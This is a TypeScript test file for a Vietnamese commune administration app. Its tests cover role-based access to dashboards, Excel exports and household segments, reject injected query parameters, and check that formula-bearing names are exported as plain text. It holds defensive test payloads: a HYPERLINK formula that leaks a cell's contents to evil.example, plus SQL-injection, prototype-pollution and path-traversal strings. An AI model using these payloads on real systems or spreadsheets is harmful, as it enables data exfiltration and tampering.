/**
 * Attacks on the console's dashboards and their Excel (bot/reports dash), and on household segments
 * (bot/segments), through the real app over a real SQLite file: a village head asking for another
 * village's tables or file, a resident anywhere, `?sort=` and `?weeks=` injection, spreadsheet formulas
 * in names that reach a sheet, a household declaring segments for another one, an officer doing the
 * admin's segment edits.
 */
import { readdirSync } from "node:fs";
import ExcelJS from "exceljs";
import { afterEach, describe, expect, it } from "vitest";
import { createGdsApp, DEMO, type GdsTestApp } from "../households/support";

/* eslint-disable @typescript-eslint/no-explicit-any */

const RESIDENT = "8718000000000000001";
const EVIL = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`;

let g: GdsTestApp | undefined;
afterEach(async () => {
  await g?.close();
  g = undefined;
});

const VIEWS = ["villages", "criteria", "pillars", "silent", "completeness", "trend"] as const;

describe("attack: dashboards of another village", () => {
  it("a village head gets their own village's tables and file only; another village's, the commune's: 403; a resident: 403 everywhere", async () => {
    const a = (g = await createGdsApp());
    for (const v of ["criteria", "pillars", "trend"]) {
      expect((await a.call(DEMO.headDongXuan, "GET", `/api/reports/dash/${v}?village=thon-dong-xuan`)).status, v).toBe(200);
      expect((await a.call(DEMO.headDongXuan, "GET", `/api/reports/dash/${v}?village=thon-ha-tien`)).status, v).toBe(403);
      expect((await a.call(DEMO.headDongXuan, "GET", `/api/reports/dash/${v}/excel?village=thon-ha-tien`)).status, v).toBe(403);
      expect((await a.call(DEMO.headDongXuan, "GET", `/api/reports/dash/${v}`)).status, v).toBe(403); // the whole commune
    }
    expect((await a.call(DEMO.headDongXuan, "GET", "/api/reports/dash/villages")).status).toBe(403);
    expect((await a.call(DEMO.headDongXuan, "GET", "/api/reports/dash/villages/excel")).status).toBe(403);
    for (const v of ["silent", "completeness"]) {
      const t = (await a.call(DEMO.headDongXuan, "GET", `/api/reports/dash/${v}`)).body as any;
      expect(t.rows.map((r: any) => r.id), v).toEqual(["thon-dong-xuan"]);
    }
    for (const v of VIEWS) {
      expect((await a.call(RESIDENT, "GET", `/api/reports/dash/${v}`)).status, v).toBe(403);
      expect((await a.call(RESIDENT, "GET", `/api/reports/dash/${v}/excel`)).status, v).toBe(403);
      expect((await a.call(null, "GET", `/api/reports/dash/${v}/excel`)).status, v).toBe(401);
    }
  });

  it("?sort= and ?weeks= injection: refused with a plain message, never a stack or a column that is not shown", async () => {
    const a = (g = await createGdsApp());
    for (const q of ["sort=name;DROP TABLE households", "sort=__proto__", "sort=constructor", "sort=cells", "sort=" + "a".repeat(500), "weeks=100000", "weeks=-1", "weeks=1e9", "desc=yes", "village=../../etc"]) {
      const r = await a.call(DEMO.officer, "GET", `/api/reports/dash/villages?${q}`);
      expect(r.status, q).toBe(400);
      expect(JSON.stringify(r.body), q).not.toMatch(/ZodError|stack|at Object|FST_/);
    }
  });
});

describe("attack: spreadsheet formulas in names", () => {
  it("a village name that is a formula is written as text in the Excel file, never as a formula", async () => {
    const a = (g = await createGdsApp({ commune: (c) => ({ ...c, villages: c.villages.map((v, i) => (i === 0 ? { ...v, name: EVIL } : v)) }) }));
    const res = await a.app.inject({ method: "GET", url: "/api/reports/dash/villages/excel", headers: a.as(DEMO.officer) });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => void cells.push(c)));
    const evil = cells.filter((c) => String(c.value).includes("HYPERLINK"));
    expect(evil.length).toBeGreaterThan(0);
    for (const c of evil) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeUndefined();
    }
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it("a segment name that is a formula reaches the segments' Excel as text, never as a formula", async () => {
    const a = (g = await createGdsApp());
    expect((await a.call(DEMO.admin, "POST", "/api/admin/segments", { name: EVIL, targetPercent: 50 })).status).toBe(201);
    const res = await a.app.inject({ method: "GET", url: "/api/segments/progress.xlsx", headers: a.as(DEMO.officer) });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => void cells.push(c)));
    expect(cells.filter((c) => String(c.value).includes("HYPERLINK")).length).toBeGreaterThan(0);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toBe(false);
  });
});

describe("attack: household segments", () => {
  it("an officer (not the admin), a village head and a resident cannot define, change or check segments", async () => {
    const a = (g = await createGdsApp());
    const list = (await a.call(DEMO.admin, "GET", "/api/admin/segments")).body as any;
    const id = (list.segments ?? list.items ?? list)[0]?.id ?? "x";
    for (const who of [DEMO.officer, DEMO.headDongXuan, RESIDENT]) {
      expect((await a.call(who, "GET", "/api/admin/segments")).status, who).toBe(403);
      expect((await a.call(who, "POST", "/api/admin/segments", { name: "Hộ mới", targetPercent: 10 })).status, who).toBe(403);
      expect((await a.call(who, "PATCH", `/api/admin/segments/${id}`, { targetPercent: 1 })).status, who).toBe(403);
      expect((await a.call(who, "POST", "/api/admin/segments/check", { fix: true })).status, who).toBe(403);
    }
  });

  it("a household cannot read, declare or decide another household's segments; a head cannot decide another village's; the household cannot confirm itself", async () => {
    const a = (g = await createGdsApp());
    const mine = (await a.call(RESIDENT, "POST", "/api/households", { villageId: "thon-ha-tien", label: "Nhà ông A", flags: {} })).body as any;
    const other = (await a.call("8718000000000000002", "POST", "/api/households", { villageId: "thon-ha-tien", label: "Nhà bà B", flags: {} })).body as any;
    const segs = (await a.call(DEMO.officer, "GET", "/api/segments")).body as any;
    const segmentId = (segs.items ?? segs.segments ?? segs)[0].id as string;
    expect((await a.call(RESIDENT, "PUT", `/api/households/${mine.id}/segments`, { declared: [segmentId] })).status).toBe(200);
    expect((await a.call(RESIDENT, "GET", `/api/households/${other.id}/segments`)).status).toBe(403);
    expect((await a.call(RESIDENT, "PUT", `/api/households/${other.id}/segments`, { declared: [segmentId] })).status).toBe(403);
    expect((await a.call(RESIDENT, "POST", `/api/households/${other.id}/segments/decisions`, { segmentId, decision: "rejected" })).status).toBe(403);
    expect((await a.call(RESIDENT, "POST", `/api/households/${mine.id}/segments/decisions`, { segmentId, decision: "confirmed" })).status).toBe(403);
    expect((await a.call(DEMO.headDongXuan, "POST", `/api/households/${mine.id}/segments/decisions`, { segmentId, decision: "rejected" })).status).toBe(403);
    expect((await a.call(DEMO.headDongXuan, "PUT", `/api/households/${mine.id}/segments`, { declared: [] })).status).toBe(403);
    const after = (await a.call(DEMO.headHaTien, "GET", `/api/households/${mine.id}/segments`)).body as any;
    expect(after.items.find((i: any) => i.segmentId === segmentId)).toMatchObject({ declared: true, decision: null });
    expect(((await a.call(DEMO.headHaTien, "GET", `/api/households/${other.id}/segments`)).body as any).items.every((i: any) => !i.declared)).toBe(true);
  });
});

describe("attack: an Excel that stops the bot", () => {
  it("the segments' Excel of a large commune lets the bot answer others while it is written (it yields between rows)", async () => {
    const a = (g = await createGdsApp());
    const real = (await a.call(DEMO.officer, "GET", "/api/segments/progress")).body as any;
    const v0 = real.segments[0].villages[0];
    // 500 villages by 12 segments, shaped as the API answers; each village row notes whether a callback
    // queued before the export had run by the time the row was read.
    let queuedRan = false;
    let sawOthersRun = false;
    const villages = Array.from({ length: 500 }, (_, i) => ({
      ...v0,
      villageId: `thon-${i}`,
      get villageName() {
        if (queuedRan) sawOthersRun = true;
        return `Thôn ${i}`;
      },
    }));
    const big = { ...real, villages: villages.map((v) => ({ id: v.villageId, name: `Thôn ${v.villageId}` })), segments: Array.from({ length: 12 }, (_, k) => ({ ...real.segments[0], id: `nhom-${k}`, name: `Nhóm ${k}`, villages })) };
    const { writeSegmentWorkbook } = await import("../../bot/segments/segments-xlsx");
    const { PassThrough } = await import("node:stream");
    const out = new PassThrough();
    out.resume();
    setImmediate(() => (queuedRan = true));
    await writeSegmentWorkbook(out, big, { kind: "xã", name: "Hòa Sơn", timezone: "Asia/Ho_Chi_Minh" });
    expect(sawOthersRun).toBe(true);
  });

  it("many Excel downloads at once (one head's phone, a script) run a couple of export workers at a time, and every file still comes", async () => {
    const a = (g = await createGdsApp());
    const url = "/api/reports/dash/criteria/excel?village=thon-dong-xuan";
    expect((await a.app.inject({ method: "GET", url, headers: a.as(DEMO.headDongXuan) })).statusCode).toBe(200); // warm
    const threads = () => readdirSync("/proc/self/task").length; // each worker is threads of this process
    const base = threads();
    let max = base;
    const sample = setInterval(() => (max = Math.max(max, threads())), 5);
    let rs: Awaited<ReturnType<typeof a.app.inject>>[];
    try {
      rs = await Promise.all(Array.from({ length: 10 }, () => a.app.inject({ method: "GET", url, headers: a.as(DEMO.headDongXuan) })));
    } finally {
      clearInterval(sample);
    }
    expect(rs.map((r) => r.statusCode)).toEqual(Array(10).fill(200));
    for (const r of rs) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
      expect(wb.worksheets[0]!.rowCount).toBeGreaterThan(5);
    }
    // Before: ten workers at once (16 gave 30 more threads and 660 MB).
    expect(max - base).toBeLessThanOrEqual(8);
    // Later downloads still get a worker (every slot was given back).
    for (let i = 0; i < 3; i++) expect((await a.app.inject({ method: "GET", url, headers: a.as(DEMO.headDongXuan) })).statusCode).toBe(200);
  }, 120_000);
});

